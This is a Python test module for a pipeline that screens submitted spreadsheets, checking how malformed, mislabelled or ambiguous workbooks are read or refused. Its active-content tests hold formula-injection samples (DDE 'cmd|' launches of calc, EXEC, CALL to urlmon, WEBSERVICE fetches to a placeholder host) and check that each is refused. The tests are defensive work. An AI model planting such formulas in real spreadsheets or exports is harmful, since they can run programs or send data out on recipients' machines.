"""The hazards that broke other systems of this kind, one test each: spreadsheets as people really send them.

Belongs here: what a workbook may look like and what must then become of it, from bytes to findings. Hazards of archives, of names and
folders, and of cells alone have modules of their own (`test_archives`, `test_inbox`, `tests/unit`).
"""

import datetime
import io
import re

import openpyxl
import pytest
import xlwt
from builders import SETTINGS, Draft, bare_xlsx, csv_bytes, submission, xls
from openpyxl.styles import Alignment
from openpyxl.utils import get_column_letter

from pipelines.screening.findings import Finding
from pipelines.screening.screen import Filing, screen
from pipelines.workbooks.bounded import ReadRequest, read_files
from pipelines.workbooks.workbook import Refusal, Workbook
from tests.hostile import files


def judged(tmp_path, content: bytes, name: str = "报表.xlsx") -> tuple[list[Filing], list[Finding]]:
    result = screen([submission(tmp_path, name, content)], SETTINGS)
    return result.filings, result.findings


def accepted(tmp_path, content: bytes, name: str = "报表.xlsx") -> Filing:
    """The one filing of a file that is accepted without a finding."""
    (filing,), findings = judged(tmp_path, content, name)
    assert (filing.verdict, [finding.message for finding in findings]) == ("accepted", [])
    return filing


def one_finding(tmp_path, content: bytes, name: str = "报表.xlsx") -> Finding:
    _, findings = judged(tmp_path, content, name)
    (finding,) = findings
    assert re.search(r"[\u4e00-\u9fff]", finding.message) and finding.remedy
    return finding


def read(tmp_path, content: bytes, name: str = "报表.xlsx") -> Workbook | Refusal:
    path = tmp_path / "file"
    path.write_bytes(content)
    return next(read_files([ReadRequest(path, name)], processes=1))


def edited(draft: Draft, change) -> bytes:
    """The draft's workbook after a change made with openpyxl to its sheet."""
    book = openpyxl.load_workbook(io.BytesIO(draft.xlsx()))
    change(book.worksheets[0])
    target = io.BytesIO()
    book.save(target)
    return target.getvalue()


# --- cells ------------------------------------------------------------------------------------------------------------


def test_a_formula_without_a_cached_value_is_told_to_the_clerk(tmp_path):
    draft = Draft("enrolment")
    draft.rows[0]["boarders"] = "=1+2"
    finding = one_finding(tmp_path, draft.xlsx())
    assert (finding.rule_id, finding.cell) == ("FILE-0-formula-no-value", draft.cell(0, "boarders"))


def test_a_stray_error_cell_far_below_does_not_make_the_rows_between_missing(tmp_path):
    draft = Draft("enrolment")

    def stray(sheet):
        sheet.cell(67, len(draft.columns) + 3, "#REF!")

    filing = accepted(tmp_path, edited(draft, stray))
    assert filing.rows_n == len(draft.rows)


def test_an_error_cell_of_a_data_row_is_named_in_every_format(tmp_path):
    """The first reader gives blanks for error cells; an error is no blank."""
    draft = Draft("enrolment")
    draft.rows[0]["boarders"] = "#DIV/0!"
    assert one_finding(tmp_path, draft.xlsx()).value == "#DIV/0!"
    book = xlwt.Workbook(encoding="utf-8")
    page = book.add_sheet(draft.sheet)
    for row, values in enumerate(draft.grid()):
        for column, value in enumerate(values):
            if value == "#DIV/0!":
                page.row(row).set_cell_error(column, "#DIV/0!")
            elif value is not None:
                page.write(row, column, value)
    target = io.BytesIO()
    book.save(target)
    finding = one_finding(tmp_path, target.getvalue(), "报表.xls")
    assert (finding.rule_id, finding.cell, finding.value) == (
        "FILE-1b-error-cell", draft.cell(0, "boarders"), "#DIV/0!"
    )  # fmt: skip


def test_error_cells_are_seen_in_every_format(tmp_path):
    """The first reader leaves them blank in BIFF12 and shows their text as a text in OpenDocument."""
    for content, name in ((files.xlsb_with_error(), "x.xlsb"), (files.ods_with_error(), "x.ods")):
        outcome = read(tmp_path, content, name)
        assert isinstance(outcome, Workbook), outcome
        (sheet,) = outcome.sheets
        assert sheet.error_cells == {(0, 1)} and sheet.rows[0] == ["1", "#DIV/0!", "甲"], (name, sheet)


def test_what_is_no_number_is_an_error_at_its_cell_and_never_a_guess(tmp_path):
    sent = {}
    for text in ("1,234人", "12.5%", "—", "无", "/", "…", "约三十", "1 2 3"):
        draft = Draft("enrolment")
        draft.rows[0]["boarders"] = text
        one = submission(tmp_path, f"{len(sent)}.xlsx", draft.xlsx())
        sent[one.submission_id] = (one, text, draft.cell(0, "boarders"))
    errors = {
        (finding.submission_id, finding.cell)
        for finding in screen([one for one, *_ in sent.values()], SETTINGS).findings
        if finding.outcome == "error"
    }
    for submission_id, (_, text, cell) in sent.items():
        assert (submission_id, cell) in errors, text


@pytest.mark.parametrize("value", [datetime.time(7, 55, 12), datetime.datetime(1900, 1, 3, 7, 55)])
def test_a_number_shown_as_a_time_or_date_is_an_error_at_its_cell(tmp_path, value):
    draft = Draft("enrolment")
    draft.rows[0]["boarders"] = value
    _, findings = judged(tmp_path, draft.xlsx())
    assert draft.cell(0, "boarders") in {finding.cell for finding in findings if finding.outcome == "error"}


def test_dates_as_serial_numbers_in_a_date_column_are_read_or_named(tmp_path):
    draft = Draft("school")
    draft.rows[0]["opened_on"] = datetime.date(1983, 9, 1)
    accepted(tmp_path, draft.xlsx())
    draft.rows[0]["opened_on"] = 30560
    _, findings = judged(tmp_path, draft.xlsx())
    assert {finding.cell for finding in findings} <= {draft.cell(0, "opened_on")}


def test_look_alike_characters_are_read_as_what_they_look_like(tmp_path):
    draft = Draft("enrolment", title="在校（园）学生统计表")
    draft.put_cover("填报单位", "原平巿")  # U+5DFF
    draft.cover = [(key, value) for key, value in draft.cover if key != "行政区划代码"]
    finding = one_finding(tmp_path, draft.xlsx())
    assert (finding.rule_id, finding.value) == ("FILE-0-county-conflict", "原平巿"), (
        "it is 原平市, whose inbox this is not"
    )


def test_names_indented_with_spaces_are_the_same_names(tmp_path):
    draft = Draft("enrolment")
    draft.rows[0]["school_name"] = "　　 南关小学 "
    accepted(tmp_path, draft.xlsx())


# --- layout -----------------------------------------------------------------------------------------------------------


def test_merged_headers_with_line_breaks_and_full_width_brackets_are_read(tmp_path):
    draft = Draft("enrolment")
    draft.headers["students_total"] = "在校\n学生数 （ 人 ）"

    def merge(sheet):
        sheet.merge_cells(start_row=1, start_column=1, end_row=1, end_column=len(draft.columns))
        sheet.cell(3, 1).alignment = Alignment(wrap_text=True)

    accepted(tmp_path, edited(draft, merge))


def test_a_total_row_inside_the_data_is_no_school(tmp_path):
    draft = Draft("enrolment").with_total()
    grid = draft.grid()
    body = 3 + len(draft.rows)
    grid[4:4], grid[body + 1 : body + 2] = [grid[body]], []
    (filing,), _ = judged(tmp_path, csv_bytes(grid), "报表.csv")
    assert filing.rows_n == len(draft.rows)


def test_hidden_sheets_rows_and_columns_are_read_and_asked_about(tmp_path):
    draft = Draft("enrolment")

    def hide(sheet):
        sheet.row_dimensions[4].hidden = True
        sheet.column_dimensions[get_column_letter(5)].hidden = True

    (filing,), findings = judged(tmp_path, edited(draft, hide))
    assert filing.verdict == "accepted_with_queries" and filing.rows_n == len(draft.rows)
    assert {finding.rule_id for finding in findings} == {"FILE-1b-hidden-data"} and len(findings) == 2


def test_several_blocks_on_one_sheet_are_several_tables_or_a_reason(tmp_path):
    one, other = Draft("teacher_pay"), Draft("civil_servant_pay")
    grid = [*one.grid(), [], *other.grid()]
    filings, findings = judged(tmp_path, csv_bytes(grid), "报表.csv")
    assert {filing.return_code for filing in filings} == {"teacher_pay", "civil_servant_pay"} or findings


def test_the_wrong_workbook_is_answered_with_what_was_looked_for(tmp_path):
    book = openpyxl.Workbook()
    book.active.append(["序号", "装备名称"])
    target = io.BytesIO()
    book.save(target)
    finding = one_finding(tmp_path, target.getvalue())
    assert finding.rule_id == "FILE-0-return-unknown" and "undefined" not in finding.message


# --- files that are not what they are called --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "rule"),
    [
        ("报表.xlsx", csv_bytes(Draft("enrolment").grid(), "utf-8", "\t"), "FILE-0-type"),
        ("报表.xls", csv_bytes(Draft("enrolment").grid(), "gb18030"), "FILE-0-type"),
        ("报表.xls", b"<html><table><tr><td>1</td></tr></table></html>", "FILE-0-type"),
        ("报表.et", b"<?xml version='1.0'?><x/>", "FILE-0-type"),
        (
            "报表.csv",
            csv_bytes([["學校名稱", "學段", "在校學生數"], ["縣立國民小學", "國小", "320"]] * 9, "big5"),
            "FILE-0-encoding",
        ),
        ("报表.xlsx", b"", "FILE-0-empty"),
        ("报表.pdf", b"%PDF-1.7\n" + bytes(range(128, 256)) * 4, "FILE-0-no-table"),
    ],
)
def test_a_file_that_is_not_what_it_is_called_is_refused_in_words(tmp_path, name, content, rule):
    assert one_finding(tmp_path, content, name).rule_id == rule


def test_an_et_file_of_wps_is_the_xls_that_it_is(tmp_path):
    draft = Draft("enrolment")
    accepted(tmp_path, xls(draft.grid(), draft.sheet), "报表.et")


def test_every_encoding_of_the_county_gives_the_same_filing(tmp_path):
    draft = Draft("enrolment")
    encodings = ["utf-8", "utf-8-sig", "gbk", "gb18030", "utf-16"]
    result = screen([submission(tmp_path, f"{name}.csv", draft.csv(name)) for name in encodings], SETTINGS)
    assert result.findings == []
    assert [filing.rows_n for filing in result.filings] == [len(draft.rows)] * len(encodings)


def test_strict_ooxml_is_read_like_any_other(tmp_path):
    """Saved as "Strict Open XML": other namespaces, which some readers take for no cells at all."""
    strict = {
        b"http://schemas.openxmlformats.org/spreadsheetml/2006/main": b"http://purl.oclc.org/ooxml/spreadsheetml/main",
        b"http://schemas.openxmlformats.org/officeDocument/2006/relationships": b"http://purl.oclc.org/ooxml/officeDocument/relationships",
    }
    draft = Draft("enrolment")
    parts = files.parts_of(draft.xlsx())
    for name, content in parts.items():
        for old, new in strict.items():
            content = content.replace(old, new)
        parts[name] = content
    assert accepted(tmp_path, files.zipped(parts)).rows_n == len(draft.rows)


def test_a_panic_of_the_first_reader_is_that_files_refusal(tmp_path):
    """Bytes at which the reader may abort its process: whatever happens, it is an outcome, and the next file is read."""
    good = Draft("enrolment").xlsx()
    broken = xls(Draft("enrolment").grid())
    made = []
    for number in range(24):
        content = bytearray(broken)
        content[512 + 97 * number : 516 + 97 * number] = b"\xff\xff\xff\xff"
        path = tmp_path / f"{number}.xls"
        path.write_bytes(bytes(content))
        made.append(ReadRequest(path, path.name))
    path = tmp_path / "good.xlsx"
    path.write_bytes(good)
    outcomes = list(read_files([*made, ReadRequest(path, path.name)], processes=1))
    assert len(outcomes) == 25 and isinstance(outcomes[-1], Workbook)


# --- two readers ------------------------------------------------------------------------------------------------------


def cells_xml(*cells: str) -> bytes:
    return bare_xlsx(f'<row r="1">{"".join(cells)}</row>')


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a cell twice", cells_xml('<c r="A1"><v>1</v></c>', '<c r="A1"><v>2</v></c>')),
        ("a cell hidden in a comment", cells_xml('<c r="A1"><v>1</v></c>', '<!--<c r="B1"><v>2</v></c>-->')),
        ("two values", cells_xml('<c r="A1"><v>1</v><v>2</v></c>')),
        ("cells out of order", cells_xml('<c r="C1"><v>3</v></c>', '<c r="A1"><v>1</v></c>')),
        ("rows out of order", bare_xlsx('<row r="5"><c r="A5"><v>5</v></c></row><row r="2"><c r="A2"><v>2</v></c></row>')),
        ("a row within a row", bare_xlsx('<row r="1"><c r="A1"><v>1</v></c><row r="2"><c r="A2"><v>2</v></c></row></row>')),
        ("an address beyond the sheet", cells_xml('<c r="ZZZ1"><v>1</v></c>')),
        ("an address of another row", bare_xlsx('<row r="1"><c r="A7"><v>1</v></c></row>')),
        ("no addresses", bare_xlsx("<row><c><v>1</v></c><c><v>2</v></c></row>")),
        ("text in pieces", cells_xml('<c r="A1" t="inlineStr"><is><r><t>甲</t></r><r><t>乙</t></r></is></c>')),
        ("a text that is not there", cells_xml('<c r="A1" t="s"><v>9</v></c>')),
        ("a number that is none", cells_xml('<c r="A1"><v>abc</v></c>')),
        ("a sheet within the sheet", bare_xlsx('</sheetData><sheetData><row r="1"><c r="A1"><v>1</v></c></row>')),
    ],
)  # fmt: skip
def test_no_file_is_half_read(tmp_path, name, content):
    """Whatever is accepted holds exactly the cells that a plain XML parser finds; the rest is refused in words."""
    outcome = read(tmp_path, content)
    if isinstance(outcome, Refusal):
        assert outcome.rule_id in ("FILE-0-readers-disagree", "FILE-0-unreadable", "FILE-0-limits"), outcome
        assert re.search(r"[\u4e00-\u9fff]", outcome.detail)
        return
    read_cells = {
        (row, column): text
        for row, cells in enumerate(outcome.sheets[0].rows)
        for column, text in enumerate(cells)
        if text
    }
    book = openpyxl.load_workbook(io.BytesIO(content), data_only=True)
    assert read_cells == {
        (cell.row - 1, cell.column - 1): str(cell.value)
        for row in book.worksheets[0].iter_rows()
        for cell in row
        if cell.value is not None
    }


def test_a_file_on_which_two_readers_differ_is_refused_with_the_cell(tmp_path):
    outcome = read(tmp_path, cells_xml('<c r="A1"><v>1</v></c>', '<c r="B1"><v>5</v></c>', '<c r="B1"><v>7</v></c>'))
    assert isinstance(outcome, Refusal) and outcome.rule_id == "FILE-0-readers-disagree"
    assert "B1" in outcome.detail and "5" in outcome.detail and "7" in outcome.detail


# --- active content ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "formula",
    [
        "cmd|'/c calc'!A0",
        "WEBSERVICE(&quot;http://x/&quot;&amp;A1)",
        "_xlfn.WEBSERVICE(A1)",
        "1+RTD(&quot;a&quot;,,&quot;b&quot;)",
        "EXEC(&quot;calc&quot;)",
        "CALL(&quot;urlmon&quot;,&quot;x&quot;)",
    ],
)
def test_a_formula_that_starts_a_program_or_fetches_is_refused_with_its_cell(tmp_path, formula):
    outcome = read(tmp_path, cells_xml(f'<c r="A1"><f>{formula}</f><v>1</v></c>'))
    assert isinstance(outcome, Refusal) and outcome.rule_id == "FILE-0-active-content" and "A1" in outcome.detail


@pytest.mark.parametrize(
    "text", ["=cmd|'/c calc'!A0", "+cmd|' /C calc'!A0", "@SUM(1)*cmd|'/c calc'!A0", '=WEBSERVICE("http://x")']
)
def test_such_a_formula_in_text_is_refused_too(tmp_path, text):
    outcome = read(tmp_path, csv_bytes([["a", text]]), "报表.csv")
    if text.startswith("@SUM"):
        assert isinstance(outcome, Workbook) or outcome.rule_id == "FILE-0-active-content"
    else:
        assert isinstance(outcome, Refusal) and outcome.rule_id == "FILE-0-active-content" and "B1" in outcome.detail


@pytest.mark.parametrize(
    "formula", ["SUM(A2:A9)", "IF(A2&gt;0,&quot;a|b&quot;,0)", "Table1[2024]+Sheet2!A1", "RECALL(1)", "工作表!A1"]
)
def test_a_plain_formula_is_read(tmp_path, formula):
    outcome = read(tmp_path, cells_xml(f'<c r="A1"><f>{formula}</f><v>1</v></c>'))
    assert isinstance(outcome, Workbook)
    assert outcome.sheets[0].external_formulas == frozenset()


@pytest.mark.parametrize("formula", ["[1]花名册!B2", "SUM('[2]乡镇 汇总'!A1:A9)", "'[汇总.xlsx]表'!A1", "[1]!名称"])
def test_a_number_from_another_workbook_is_seen(tmp_path, formula):
    outcome = read(tmp_path, cells_xml(f'<c r="A1"><f>{formula}</f><v>1</v></c>'))
    assert isinstance(outcome, Workbook) and outcome.sheets[0].external_formulas == {(0, 0)}


def test_a_link_outside_the_table_is_no_matter(tmp_path):
    draft = Draft("enrolment")
    draft.notes.append(["注：取自", *[None] * len(draft.columns), "=[1]花名册!B2"])
    content = files.with_parts(
        draft.xlsx(), xl__worksheets__sheet1_dot_xml=lambda part: part.replace(b"</f><v />", b"</f><v>3</v>")
    )
    assert judged(tmp_path, content)[0][0].verdict == "accepted"


def test_macros_are_never_run_and_their_file_is_read_as_data(tmp_path):
    content = files.with_parts(Draft("enrolment").xlsx(), xl__vbaProject_dot_bin=b"\0")
    (filing,), (finding,) = judged(tmp_path, content, "报表.xlsm")
    assert (filing.verdict, finding.rule_id, finding.outcome) == ("accepted", "FILE-0-macros", "info")
    assert "从不运行" in finding.message


def test_a_zero_finding_rejection_cannot_be(tmp_path):
    """Whatever is rejected says why: held over every file of this module that is refused in one way or another."""
    contents = [
        b"",
        b"\0" * 9,
        b"PK\x03\x04",
        b"PK\x05\x06" + bytes(18),
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        b",",
        b"\xff\xfe",
    ]
    result = screen([submission(tmp_path, f"{n}.xlsx", content) for n, content in enumerate(contents)], SETTINGS)
    explained = {finding.submission_id for finding in result.findings if finding.outcome == "error"}
    assert {filing.submission_id for filing in result.filings if filing.verdict == "rejected"} <= explained
    assert len(result.filings) == len(contents)
